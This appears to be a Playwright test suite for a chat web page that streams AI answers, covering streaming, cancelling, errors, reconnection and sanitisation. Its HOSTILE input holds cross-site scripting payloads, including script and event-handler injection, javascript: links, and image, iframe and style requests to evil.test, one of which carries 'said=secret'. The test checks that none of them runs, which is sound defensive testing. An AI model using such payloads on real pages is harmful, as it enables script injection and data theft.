/**
 * What the chat page makes of answers: whole and broken ones, by both of its ways.
 */
import type { WebSocketRoute } from 'playwright-core';
import { until } from '../helpers/gateway.ts';
import { ask, chooseModel, factsOf, LONG, type Opened, QUESTION, reach, textOf, turn } from './chat-page.ts';
import { expect } from './chromium.ts';

/** Runs in the page: the lengths of the text that it shows, frame by frame. */
const watchLengths = `window.lengths = []; (function look() {
  const length = document.querySelector('.turn:last-child .text')?.textContent.length ?? 0;
  if (length !== window.lengths.at(-1)) window.lengths.push(length);
  requestAnimationFrame(look);
})()`;

export async function checkAsking({ page }: Opened): Promise<string> {
  await page.evaluate(watchLengths);
  await ask(page, QUESTION);
  await reach(page, 'complete');
  const lengths = (await page.evaluate('window.lengths')) as number[];
  const rises = lengths.filter((length, index) => length > (lengths[index - 1] ?? 0));
  expect(rises.length > 10, `the text grew in ${rises.length} steps`);
  const facts = await factsOf(page);
  expect(/first token \d+ ms/.test(facts) && /\d tokens\/s/.test(facts) && /\d out/.test(facts), facts);
  const plot = await turn(page).getByRole('img').getAttribute('aria-label');
  expect(/The text arrived in \d{2,} pieces/.test(plot ?? ''), `${plot}`);
  expect((await page.textContent('#announcer')) === 'Answer finished.', 'nothing was announced');
  return `${rises.length} steps; ${facts.replaceAll('\n', ', ')}`;
}

export type Upstream = { readonly ledger: { readonly closedEarly: number; readonly open: number } };

export async function checkStopping(
  { page }: Opened,
  { ledger }: Upstream,
  how: () => Promise<void>,
): Promise<string> {
  const before = ledger.closedEarly;
  await ask(page, LONG);
  // The page forbids to evaluate a text, which waiting for a function does.
  while ((await textOf(page)).length < 100) await page.waitForTimeout(20);
  const askedAt = performance.now();
  await how();
  await reach(page, 'cancelled');
  const shownMs = Math.round(performance.now() - askedAt);
  await until(() => ledger.open === 0);
  expect(ledger.closedEarly === before + 1, `Bedrock saw ${ledger.closedEarly - before} leave early`);
  expect((await turn(page).innerText()).includes('Stopped before its end.'), 'it does not say so');
  return `cancelled is shown after ${shownMs} ms, and Bedrock’s answer was closed early`;
}

/** Deeper than what reads Markdown can go. */
export async function checkDeep({ page }: Opened): Promise<string> {
  await page.locator('#place', { hasText: 'this laptop' }).waitFor();
  for (const deep of ['> '.repeat(2_500), '- '.repeat(2_500)]) {
    await ask(page, `ECHO ${deep}the bottom`);
    await reach(page, 'complete');
    expect((await textOf(page)).includes('the bottom'), 'its text is not shown');
  }
  await page.reload();
  await page.locator('.turn').nth(1).waitFor();
  expect((await textOf(page)).includes('the bottom'), 'it is not shown after a reload');
  return 'two of them, and shown again after a reload';
}

/** On AWS, a reader who leaves without a word is not seen. The log is that of the gateway. */
export async function checkGone({ page }: Opened, log: () => string): Promise<string> {
  const countCancels = () => log().split('"route":"/v1/requests/:request_id"').length;
  const before = countCancels();
  await page.locator('#place', { hasText: 'this laptop' }).waitFor();
  await ask(page, LONG);
  await page.locator('.turn[data-state=answering]').waitFor();
  await page.goto('about:blank');
  await until(() => countCancels() === before + 1);
  await page.context().close();
  return 'tells the gateway with its last request';
}

/** Its answer is not the business of the conversation that is open by then. */
export async function checkLeaving({ page }: Opened): Promise<string> {
  await page.click('#new-chat');
  await ask(page, `ECHO ${'word '.repeat(80)}`);
  await page.locator('.turn[data-state=answering]').waitFor();
  await page.waitForURL(/#chat=/);
  await page.click('#new-chat');
  expect((await page.locator('.turn').count()) === 0, 'the new conversation is not empty');
  expect(await page.locator('#send').isVisible(), 'the new conversation cannot be asked');
  await page.goBack();
  await page.locator('.turn[data-state=answering]').waitFor();
  await reach(page, 'complete');
  expect((await textOf(page)).trim().split(' ').length === 80, await textOf(page));
  await page.locator('#chats a[aria-current]', { hasText: 'ECHO word' }).waitFor();
  return 'it went on, and was there when its conversation was opened again';
}

export async function checkSocket({ page }: Opened): Promise<string> {
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));
  await page.getByRole('radio', { name: 'WebSocket' }).check({ force: true });
  await ask(page, `${QUESTION} And why?`);
  await reach(page, 'complete');
  expect((await textOf(page)).includes('Faraday'), await textOf(page));
  expect(sockets.length === 1, `${sockets.length} sockets`);
  return `${await factsOf(page)}`.replaceAll('\n', ', ');
}

const HOSTILE = `ECHO <script>window.hacked = 'script'</script>
<img src="x" onerror="window.hacked = 'onerror'"> <svg onload="window.hacked = 'svg'"></svg>

[link](javascript:window.hacked='link') <a href="javascript:window.hacked='html'">html</a> [here](/v1/chats)

![the conversation](https://evil.test/pixel.png?said=secret) <iframe src="https://evil.test/"></iframe>

<style>body { background: url(https://evil.test/style) }</style>

[good](https://example.test/page)`;

export async function checkHostile({ page, hosts }: Opened): Promise<string> {
  await ask(page, HOSTILE);
  await reach(page, 'complete');
  const answer = turn(page).locator('.text');
  for (const link of await answer.locator('a').all())
    expect((await link.getAttribute('target')) === '_blank', 'a link');
  const addresses = await answer
    .locator('a[href]')
    .evaluateAll((links) => links.map((link) => `${link.getAttribute('href')} ${link.getAttribute('rel')}`));
  const safe = ['https://evil.test/pixel.png?said=secret', 'https://example.test/page'];
  expect(addresses.join() === safe.map((url) => `${url} noopener noreferrer`).join(), addresses.join());
  expect(
    (await answer.locator('img, script, svg, iframe, style, [onerror]').count()) === 0,
    'elements of the answer',
  );
  expect(
    (await answer.innerText()).includes("<script>window.hacked = 'script'</script>"),
    'HTML is not shown as text',
  );
  await page.waitForTimeout(100);
  expect((await page.evaluate('window.hacked')) === undefined, `${await page.evaluate('window.hacked')} ran`);
  expect(
    [...hosts].every((host) => host.startsWith('127.0.0.1:')),
    [...hosts].join(),
  );
  return `nothing ran, and only ${[...hosts].join()} was asked`;
}

export async function checkErrors(opened: Opened): Promise<string> {
  const { page, problems } = opened;
  const said: string[] = [];
  for (const door of ['SSE', 'WebSocket']) {
    await page.getByRole('radio', { name: door }).check({ force: true });
    for (const fault of ['reset-mid-stream', 'throttled']) {
      await chooseModel(page, `simulator.${fault}`);
      await ask(page, `${QUESTION} ${door} ${fault}`);
      await reach(page, 'failed');
      const note = await turn(page).locator('.note').innerText();
      expect(/^[A-Z].+\.\n/.test(note) && /Request [\w-]{36}/.test(note), note);
      expect(
        (await turn(page).getByRole('button', { name: 'Try again' }).count()) === 1,
        `no way back: ${note}`,
      );
      said.push(note.split('\n')[0] ?? '');
    }
  }
  await page.selectOption('#model', { index: 0 });
  await turn(page).getByRole('button', { name: 'Try again' }).click();
  await reach(page, 'complete');
  await page.getByRole('radio', { name: 'SSE' }).check({ force: true });
  // Chromium itself writes down a status of 429; nothing else may be there.
  const expected = problems.filter((problem) => /status of 429/.test(problem));
  expect(expected.length === 1 && problems.length === 1, problems.join('; '));
  problems.length = 0;
  return [...new Set(said)].join(' | ');
}

/** A gateway whose stream is cut on its way, which the page must not take for whole, and cancels. */
export async function checkCutStream({ page, problems }: Opened): Promise<string> {
  const body =
    'event: start\ndata: {"model":"m","cached":false}\n\nevent: delta\ndata: {"text":"Half of"}\n\n';
  await page.route('**/v1/chat', (route) => route.fulfill({ contentType: 'text/event-stream', body }));
  const cancel = page.waitForResponse((response) => response.request().method() === 'DELETE');
  await ask(page, 'Will you be cut?');
  await reach(page, 'failed');
  await page.unroute('**/v1/chat');
  const shown = await turn(page).innerText();
  expect(shown.includes('Half of') && shown.includes('The answer broke off before its end.'), shown);
  // The gateway never heard of this question, and Chromium writes that down.
  expect((await cancel).status() === 404, `the cancel was answered with ${(await cancel).status()}`);
  await until(() => problems.length > 0);
  expect(problems.length === 1 && /status of 404/.test(problems.join()), problems.join('; '));
  problems.length = 0;
  return 'The answer broke off before its end.';
}

export async function checkUnreachable({ page, problems }: Opened): Promise<string> {
  await page.route('**/v1/chat', (route) => route.abort());
  await ask(page, 'Is anybody there?');
  await reach(page, 'failed');
  await page.unroute('**/v1/chat');
  expect(
    problems.every((problem) => problem.includes('ERR_FAILED')),
    problems.join('; '),
  );
  problems.length = 0;
  const note = await turn(page).locator('.note p').first().innerText();
  expect(/cannot be reached/.test(note), note);
  return note;
}

/** Stopped before the gateway can have heard of it. */
export async function checkStoppingAtOnce({ page, problems }: Opened, { ledger }: Upstream): Promise<string> {
  for (const door of ['SSE', 'WebSocket']) {
    await page.click('#new-chat');
    await page.getByRole('radio', { name: door }).check({ force: true });
    await page.fill('#question', `${QUESTION} And by ${door}?`);
    await page.evaluate(
      "document.querySelector('#composer').requestSubmit(); document.querySelector('#stop').click()",
    );
    await reach(page, 'cancelled');
    await until(() => ledger.open === 0);
  }
  expect(problems.length === 0, problems.join('; '));
  return 'cancelled by both ways, and nothing in the console';
}

export async function checkLearned({ page }: Opened): Promise<string> {
  const badges: string[] = [];
  for (const _ of ['asked', 'asked again']) {
    await page.click('#new-chat');
    await ask(page, 'What do larks eat?');
    await reach(page, 'complete');
    badges.push((await turn(page).locator('.badge').allInnerTexts()).join());
  }
  expect(badges.join() === ',Learned', `badges: ${badges.join()}`);
  const facts = await factsOf(page);
  expect(facts.includes('no tokens used'), facts);
  return facts.replaceAll('\n', ', ');
}

export async function checkReasoning({ page }: Opened): Promise<string> {
  await page.click('#new-chat');
  await chooseModel(page, 'simulator.reasoning');
  await ask(page, 'Why is grass green?');
  await reach(page, 'complete');
  await page.selectOption('#model', { index: 0 });
  expect(await turn(page).locator('.thoughts').isHidden(), 'the thoughts are open unasked');
  await turn(page).locator('summary').click();
  const thoughts = await turn(page).locator('.thoughts').innerText();
  expect(/grass and green/.test(thoughts), `the thoughts: ${thoughts}`);
  expect(!(await textOf(page)).includes(thoughts), 'the thoughts stand in the answer');
  return thoughts;
}

/** Longer than a frame, and full of what takes more room on its way than on the screen. */
export async function checkParts({ page }: Opened): Promise<string> {
  const said = `Why ${'é"'.repeat(12_000)}?`;
  let parts = 0;
  page.on('websocket', (socket) =>
    socket.on('framesent', ({ payload }) => (parts += Number(String(payload).includes('"action":"part"')))),
  );
  await page.click('#new-chat');
  await page.getByRole('radio', { name: 'WebSocket' }).check({ force: true });
  // What was there before has no listener.
  await page.reload();
  await ask(page, said);
  await reach(page, 'complete');
  await page.reload();
  const kept = await page.locator('.question').last().innerText();
  expect(kept === said, `${kept.length} characters arrived`);
  expect(parts > 1, `${parts} parts`);
  return `${said.length} characters in ${parts} parts`;
}

/** One that was closed meanwhile, and one whose identity has expired, as after an hour. */
export async function checkReconnecting({ page, problems }: Opened): Promise<string> {
  const sockets: WebSocketRoute[] = [];
  await page.routeWebSocket(/\/ws$/, (socket) => {
    socket.connectToServer();
    sockets.push(socket);
  });
  await page.getByRole('radio', { name: 'WebSocket' }).check({ force: true });
  await page.reload();
  const answers = async (word: string) => {
    await ask(page, `ECHO ${word}`);
    await reach(page, 'complete');
    expect((await textOf(page)).trim() === word, await textOf(page));
  };
  await answers('first');
  await sockets.at(-1)?.close();
  await answers('second');
  const old = sockets.at(-1);
  old?.onMessage((text) => {
    const { request_id } = JSON.parse(String(text));
    old.send(
      JSON.stringify({ type: 'error', request_id, error: { code: 'unauthorized', message: 'Expired.' } }),
    );
  });
  await answers('third');
  expect(sockets.length === 3, `${sockets.length} sockets`);
  expect(problems.length === 0, problems.join('; '));
  return 'the next question opens another, and is answered';
}
